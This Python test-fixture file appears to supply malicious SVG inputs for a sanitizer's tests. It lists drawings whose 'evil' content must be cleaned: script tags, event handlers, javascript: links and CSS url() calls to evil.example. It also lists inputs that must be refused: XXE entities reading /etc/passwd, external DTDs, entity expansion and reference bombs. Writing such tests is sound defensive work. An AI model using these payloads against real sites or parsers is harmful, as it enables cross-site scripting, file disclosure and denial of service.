"""Drawings that try something. Whatever each tries has the word `evil` in it, which must not survive."""

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'


def drawing(content: str, attributes: str = "") -> bytes:
    return f"<svg {SVG_NS} {attributes}>{content}<rect id='kept' width='5' height='5'/></svg>".encode()


CLEANED: dict[str, bytes] = {
    "script": drawing("<script>evil()</script>"),
    "script in cdata": drawing("<script><![CDATA[evil()]]></script>"),
    "script from elsewhere": drawing("<script xlink:href='https://evil.example/x.js'/>"),
    "script of another namespace": drawing("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>evil()</h:script>"),
    "script within text": drawing("<text>a<script>evil()</script>b</text>"),
    "script within a title": drawing("<title>a<script>evil()</script></title>"),
    "script within metadata": drawing("<metadata><script>evil()</script></metadata>"),
    "script within dropped": drawing("<foreignObject><g><script>evil()</script></g></foreignObject>"),
    "handler element": drawing("<handler type='text/ecmascript'>evil()</handler>"),
    "onload on the root": drawing("", "onload='evil()'"),
    "onclick": drawing("<rect onclick='evil()'/>"),
    "onfocusin with tabindex": drawing("<g tabindex='1' onfocusin='evil()'/>"),
    "onbegin": drawing("<animate onbegin='evil()' attributeName='x'/>"),
    "event attribute in upper case": drawing("<rect ONCLICK='evil()'/>"),
    "event attribute of another namespace": drawing("<rect xmlns:e='urn:e' e:onclick='evil()'/>"),
    "foreign object": drawing(
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/></foreignObject>"
    ),
    "html body": drawing("<body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='evil()'/></body>"),
    "iframe": drawing("<iframe src='javascript:evil()'/>"),
    "embed and object": drawing("<embed src='evil.swf'/><object data='evil.swf'/>"),
    "audio and video": drawing("<audio href='https://evil.example/a'/><video src='https://evil.example/v'/>"),
    "link to a script": drawing("<a href='javascript:evil()'><rect width='1' height='1'/></a>"),
    "link elsewhere": drawing("<a xlink:href='https://evil.example' target='_blank'><rect/></a>"),
    "link with a tab in its scheme": drawing("<a href='java&#9;script:evil()'><rect/></a>"),
    "link within text": drawing("<text><a href='javascript:evil()'>x</a></text>"),
    "set of an address": drawing("<a><set attributeName='href' to='javascript:evil()'/></a>"),
    "animation of an address": drawing("<a><animate attributeName='href' values='javascript:evil()'/></a>"),
    "animation of a handler": drawing("<rect><set attributeName='onclick' to='evil()'/></rect>"),
    "animation by reference": drawing("<animate xlink:href='#kept' attributeName='fill' to='url(https://evil/)'/>"),
    "discard": drawing("<discard begin='evil.click'/>"),
    "use of another document": drawing("<use href='https://evil.example/x.svg#a'/>"),
    "use of a data document": drawing("<use href='data:image/svg+xml;base64,PHN2Zz5ldmlsPC9zdmc+#evil'/>"),
    "use of a script": drawing("<use href='javascript:evil()'/>"),
    "image from elsewhere": drawing("<image href='https://evil.example/p.png'/>"),
    "image from a file": drawing("<image xlink:href='file:///etc/evil'/>"),
    "image by a relative path": drawing("<image href='../evil.png'/>"),
    "image by a protocol-relative path": drawing("<image href='//evil.example/p.png'/>"),
    "image that is a drawing": drawing("<image href='data:image/svg+xml,%3Csvg onload=%22evil()%22/%3E'/>"),
    "image that is html": drawing("<image href='data:text/html,&lt;script>evil()&lt;/script>'/>"),
    "image that pretends to be png": drawing("<image href='data:image/png;base64,PHNjcmlwdD5ldmlsKCk='/>"),
    "image with base64 that is none": drawing("<image href='data:image/png;base64,evil*'/>"),
    "feImage": drawing("<filter id='f'><feImage href='https://evil.example/p.png'/></filter>"),
    "pattern of another document": drawing("<pattern id='p' href='https://evil.example/#p'/>"),
    "gradient of another document": drawing("<linearGradient id='g' xlink:href='evil.svg#g'/>"),
    "text along another document": drawing("<text><textPath href='evil.svg#p'>t</textPath></text>"),
    "fill from elsewhere": drawing("<rect fill='url(https://evil.example/#a)'/>"),
    "fill from a relative path": drawing("<rect fill='url(evil.svg#a)'/>"),
    "fill in quotes": drawing("<rect fill='url(\"https://evil.example\")'/>"),
    "fill with an escape": drawing("<rect fill='\\75rl(https://evil.example)'/>"),
    "fill with a comment": drawing("<rect fill='ur/**/l(https://evil.example)'/>"),
    "fill with a fallback": drawing("<rect fill='url(#a) url(//evil.example)'/>"),
    "mask, clip, filter, marker, cursor": drawing(
        "<rect mask='url(//evil/m)' clip-path='url(//evil/c)' filter='url(//evil/f)' marker-mid='url(//evil/k)'"
        " cursor='url(//evil/u),auto'/>"
    ),
    "image set": drawing("<rect fill='image-set(\"https://evil.example\" 1x)'/>"),
    "fill in upper case": drawing("<rect fill='URL(HTTPS://EVIL.EXAMPLE)'/>"),
    "style import": drawing("<style>@import url(https://evil.example/x.css);</style>"),
    "style import, bare": drawing("<style>@import 'https://evil.example/x.css'; rect{fill:red}</style>"),
    "style with url": drawing("<style>rect{fill:url(https://evil.example/a)}</style>"),
    "style with font": drawing("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"),
    "style with escape": drawing("<style>rect{fill:u\\72l(https://evil.example)}</style>"),
    "style with expression": drawing("<style>rect{width:expression(evil())}</style>"),
    "style with binding": drawing("<style>rect{-moz-binding:url(https://evil.example#x)}</style>"),
    "style with behavior": drawing("<style>rect{behavior:url(evil.htc)}</style>"),
    "style with markup": drawing("<style>&lt;/style>&lt;script>evil()&lt;/script></style>"),
    "style with elements": drawing("<style><script>evil()</script></style>"),
    "style that reads attributes": drawing("<style>rect[id^='k']{fill:url(//evil/k)}</style>"),
    "style attribute with url": drawing("<rect style='fill:url(https://evil.example)'/>"),
    "style attribute with import": drawing("<rect style='@import url(//evil.example)'/>"),
    "style attribute with background": drawing("<g style='background:url(https://evil.example)'/>"),
    "style attribute that ends itself": drawing('<g style="isolation:isolate&quot; onload=&quot;evil()"/>'),
    "style by instruction": b"<?xml-stylesheet href='https://evil.example/x.css'?>" + drawing(""),
    "script by instruction": drawing("<?php evil() ?>"),
    "comment": drawing("<!-- evil --><!--[if IE]><script>evil()</script><![endif]-->"),
    "id that is an expression": drawing("<g id='&quot; onload=evil()'/>"),
    "base of addresses": drawing("<g xml:base='https://evil.example/'/>"),
    "data of programs": drawing("<g data-x='evil' xmlns:i='urn:i' i:label='evil'><i:evil/></g>"),
    "view": drawing("<view id='v' viewBox='0 0 1 1' viewTarget='evil'/>"),
    "font": drawing("<font><font-face font-family='evil'><font-face-src/></font-face></font>"),
    "colour profile": drawing("<color-profile xlink:href='https://evil.example/p.icc'/>"),
    "xslt": drawing("<x:evil xmlns:x='http://www.w3.org/1999/XSL/Transform'/>"),
    "extension": drawing("<g requiredExtensions='urn:evil'><text>evil</text></g>"),
}

REFUSED: dict[str, bytes] = {
    "entity": b"<!DOCTYPE svg [<!ENTITY e 'evil'>]>" + drawing("<text>&e;</text>"),
    "entity from a file": b"<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>" + drawing("<text>&e;</text>"),
    "parameter entity": b"<!DOCTYPE svg [<!ENTITY % e SYSTEM 'http://evil.example/d'> %e;]>" + drawing(""),
    "entities of entities": b"<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]>" + drawing("<text>&b;</text>"),
    "document type with attributes": b"<!DOCTYPE svg [<!ATTLIST rect onclick CDATA 'evil()'>]>" + drawing(""),
    "document type from elsewhere": b"<!DOCTYPE svg SYSTEM 'http://evil.example/x.dtd'>" + drawing(""),
    "public document type with entities": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x" '
    b"[<!ENTITY e 'evil'>]>" + drawing("<text>&e;</text>"),
    "undeclared entity": drawing("<text>&evil;</text>"),
    "not well-formed": b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>",
    "cut off": drawing("<rect/>")[:-9],
    "two roots": drawing("") + drawing(""),
    "html": b"<html><svg/></html>",
    "svg of another namespace": b"<svg xmlns='urn:x' viewBox='0 0 1 1'/>",
    "utf-16": drawing("").decode().encode("utf-16"),
    "utf-7 by name": b"<?xml version='1.0' encoding='utf-7'?>" + drawing("+ADw-script+AD4-").replace(b"rect", b"\xff"),
    "bytes that are no text": drawing("\x01"),
    "use of itself": drawing("<g id='a'><use href='#a'/></g>"),
    "use in a circle": drawing("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
    "pattern in itself": drawing("<pattern id='p'><rect fill='url(#p)'/></pattern>"),
    "a million elements by use": drawing(
        "<rect id='l0'/>" + "".join(f"<g id='l{n}'>{f'''<use href='#l{n - 1}'/>''' * 10}</g>" for n in range(1, 8))
    ),
    "a chain of references": drawing(
        "<rect id='c0'/>" + "".join(f"<use id='c{n}' href='#c{n - 1}'/>" for n in range(1, 600))
    ),
    "too deep": drawing("<g>" * 200 + "</g>" * 200),
    "too deep in what is dropped": drawing("<x>" * 200 + "</x>" * 200),
    "too many elements": drawing("<g/>" * 200_001),
    "too many pictures": drawing(
        "<image href='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+k"
        "cQAAAABJRU5ErkJggg=='/>" * 65
    ),
    "too many rules": drawing("<style>" + ".a{fill:red}" * 5001 + "</style>"),
    "rules times elements": drawing("<style>" + "*{fill:red}" * 4000 + "</style>" + "<g/>" * 300),
    "styles that swell": drawing(f"<style>*{{font-family:{'x' * 4000}}}</style>" + "<g/>" * 1400),
    "too large": drawing("<!--" + "x" * (5 * 1024 * 1024) + "-->"),
    "without a size": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "of no width": b"<svg xmlns='http://www.w3.org/2000/svg' width='0' height='9'/>",
    "of endless width": b"<svg xmlns='http://www.w3.org/2000/svg' width='1e999' height='9'/>",
    "of a million pixels a side": b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1000000 1000000'/>",
}
